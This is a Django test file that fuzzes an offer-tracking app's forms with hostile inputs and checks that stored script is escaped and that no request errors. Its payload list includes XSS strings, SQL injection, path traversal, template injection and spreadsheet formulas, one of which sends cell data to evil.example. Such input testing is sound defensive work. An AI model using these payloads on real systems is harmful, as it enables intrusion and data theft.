"""Hostile values in the main forms: never a 500, never a stored script rendered unescaped."""

from __future__ import annotations

import datetime as dt
import re

import pytest
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from offers.logic.criteria import CRITERIA
from tests.factories import CompanyFactory
from tests.security.helpers import offer_post

SCRIPT = "<script>alert('x')</script>"
NASTY = [
    SCRIPT,
    '"><img src=x onerror=alert(1)>',
    "</textarea><script>alert(2)</script>",
    "'; DROP TABLE offers_offer; --",
    "1 OR 1=1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1+1)",
    "NaN",
    "nan",
    "Infinity",
    "-inf",
    "1e309",
    "-1e309",
    "9" * 60,
    "-" + "9" * 30,
    "1e-400",
    "0x1F",
    "١٢٣",  # Arabic-Indic digits
    "１２３",  # full-width digits
    "\u202egnp.exe",
    "\x00",
    "",
    " ",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 🎉",
    "a" * 5000,
    "{{ 7*7 }}{% debug %}",
    "../../etc/passwd",
    "2027-02-30",
    "99999-01-01",
    "-1",
    "1,000,000",
]
HOSTILE = st.one_of(
    st.sampled_from(NASTY),
    st.text(max_size=80),
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
    st.integers(min_value=-(10**40), max_value=10**40).map(str),
    st.decimals(allow_nan=True, allow_infinity=True).map(str),
)
FUZZ = settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
UNESCAPED = re.compile(r"<script>alert|<img src=x onerror|\{\{ 7\*7 \}\}|\b49\b(?=.*debug)")


def _hostile_post(base: dict[str, str], fields: list[str]):
    return st.dictionaries(st.sampled_from(fields), HOSTILE, min_size=1, max_size=5).map(
        lambda extra: {
            **base,
            **{k: v.replace("\x00", "") if k == "name" else v for k, v in extra.items()},
        }
    )


@pytest.fixture(autouse=True)
def _usd_rates(db):
    """Shared rates so offers in SGD can be shown in the default home currency."""
    from tests.factories import FxRateFactory

    FxRateFactory(owner=None, currency="SGD", to_currency="USD", rate="0.74")


def _check(client: Client, url: str, data: dict[str, str], follow_pages: list[str]) -> None:
    """POST, never a 500; on success, the pages showing the object do not run its text."""
    response = client.post(url, data)
    assert response.status_code < 500
    assert "<script>alert" not in response.content.decode(errors="replace")
    if response.status_code == 302:
        for page in [response["Location"], *follow_pages]:
            shown = client.get(page)
            assert shown.status_code < 500, page
            body = shown.content.decode()
            assert "<script>alert" not in body, page
            assert "<img src=x onerror" not in body, page


def _saved_text(client: Client, url: str, data: dict[str, str], page_of) -> str:
    response = client.post(url, data)
    assert response.status_code == 302, response.content.decode()[:2000]
    return client.get(page_of(response)).content.decode()


# Offers --------------------------------------------------------------------------------------
# "currency" is fuzzed too: an unknown code (e.g. "NAN") must show as "cannot evaluate", not a 500.
OFFER_FIELDS = [*offer_post()] + [
    "notes",
    "team",
    "title",
    "location",
    "deadline",
]


@pytest.mark.django_db
def test_stored_script_in_an_offer_is_escaped(client_alice):
    url = reverse("offers:offer_create")
    body = _saved_text(
        client_alice,
        url,
        offer_post(name=SCRIPT, notes=SCRIPT, team=SCRIPT, title=SCRIPT, location=SCRIPT),
        lambda r: r["Location"],
    )
    assert "&lt;script&gt;alert(" in body
    assert SCRIPT not in body
    for page in ("offers:offer_list", "offers:dashboard", "offers:offer_compare"):
        assert SCRIPT not in client_alice.get(reverse(page)).content.decode(), page


@pytest.mark.django_db
@FUZZ
@given(data=_hostile_post(offer_post(), OFFER_FIELDS))
def test_offer_create_survives_hostile_values(client_alice, data):
    _check(
        client_alice,
        reverse("offers:offer_create"),
        data,
        [reverse("offers:offer_list"), reverse("offers:dashboard")],
    )


# Preferences ---------------------------------------------------------------------------------
PREFS = {
    "home_timezone": "Asia/Taipei",
    "day_start": "08:00",
    "day_end": "23:00",
    "required_remote_weeks": "0",
    "relocation_ok": "on",
    "horizon_years": "4",
    "home_currency": "USD",
    "basis": "gross",
    "risk_percentile": "50",
    "reminder_days": "3",
    **{c.weight_field: str(c.default_weight) for c in CRITERIA},
}


@pytest.mark.django_db
def test_preferences_base_payload_is_valid(client_alice):
    response = client_alice.post(reverse("offers:preferences"), PREFS)
    assert response.status_code == 302, response.content.decode()[:2000]


@pytest.mark.django_db
@FUZZ
@given(
    data=_hostile_post(
        PREFS, [*PREFS, "family_start", "family_end", "min_first_year_total", "version"]
    )
)
def test_preferences_survive_hostile_values(client_alice, data):
    _check(client_alice, reverse("offers:preferences"), data, [reverse("offers:dashboard")])


# Sign-up -------------------------------------------------------------------------------------
@pytest.mark.django_db
@FUZZ
@given(
    username=st.one_of(st.sampled_from(NASTY), st.text(max_size=200)),
    password=st.one_of(st.sampled_from(NASTY), st.text(max_size=300)),
)
def test_signup_survives_hostile_values(username, password):
    client = Client()
    response = client.post(
        reverse("signup"), {"username": username, "password1": password, "password2": password}
    )
    assert response.status_code in (200, 302)
    assert "<script>alert" not in response.content.decode()
    if response.status_code == 302:
        page = client.get(reverse("offers:dashboard")).content.decode()
        assert "<script>alert" not in page


# Interviews ----------------------------------------------------------------------------------
def _process_post(company_pk: int) -> dict[str, str]:
    return {
        "company": str(company_pk),
        "role": "Senior ML Engineer",
        "source": "recruiter",
        "stage": "applied",
        "priority": "2",
        "first_contact": dt.date.today().isoformat(),
    }


PROCESS_FIELDS = [
    "company",
    "role",
    "team",
    "source",
    "recruiter",
    "referrer",
    "target_level",
    "offered_level",
    "stage",
    "first_contact",
    "next_step",
    "deadline",
    "priority",
    "notes",
]


@pytest.mark.django_db
def test_stored_script_in_a_process_is_escaped(client_alice, alice):
    company = CompanyFactory(owner=alice)
    data = {
        **_process_post(company.pk),
        "role": SCRIPT,
        "team": SCRIPT,
        "notes": SCRIPT,
        "recruiter": SCRIPT,
        "next_step": SCRIPT,
    }
    body = _saved_text(
        client_alice, reverse("interviews:process_create"), data, lambda r: r["Location"]
    )
    assert SCRIPT not in body
    assert SCRIPT not in client_alice.get(reverse("interviews:board")).content.decode()


@pytest.mark.django_db
@FUZZ
@given(data=st.data())
def test_process_create_survives_hostile_values(client_alice, alice, data):
    company = CompanyFactory(owner=alice)
    post = data.draw(_hostile_post(_process_post(company.pk), PROCESS_FIELDS))
    _check(client_alice, reverse("interviews:process_create"), post, [reverse("interviews:board")])


# Compensation --------------------------------------------------------------------------------
COMPANY = {
    "name": "Acme",
    "ticker": "ACME",
    "currency": "USD",
    "share_price": "100",
    "growth_pct": "5",
    "volatility_pct": "30",
    "liquidity_discount_pct": "0",
}
COMPANY_FIELDS = [*COMPANY, "is_private", "vesting_preset", "notes"]


@pytest.mark.django_db
def test_stored_script_in_a_company_is_escaped(client_alice):
    data = {**COMPANY, "name": SCRIPT, "notes": SCRIPT, "ticker": "<b>"}
    body = _saved_text(
        client_alice, reverse("compensation:company_create"), data, lambda r: r["Location"]
    )
    assert SCRIPT not in body
    assert SCRIPT not in client_alice.get(reverse("compensation:company_list")).content.decode()


@pytest.mark.django_db
@FUZZ
@given(data=_hostile_post(COMPANY, COMPANY_FIELDS))
def test_company_create_survives_hostile_values(client_alice, data):
    _check(
        client_alice,
        reverse("compensation:company_create"),
        data,
        [reverse("compensation:company_list")],
    )
